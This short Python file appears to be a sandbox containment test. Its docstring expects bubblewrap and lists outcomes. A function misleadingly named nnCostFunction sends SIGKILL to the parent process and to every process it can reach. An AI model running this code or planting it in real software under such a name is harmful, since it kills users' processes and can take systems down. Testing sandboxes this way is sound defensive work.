"""Signals every process it can.

Needs: bubblewrap
Verdict: ended | ProcessLookupError | not permitted
"""

import os
import signal


def nnCostFunction(*arguments):
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
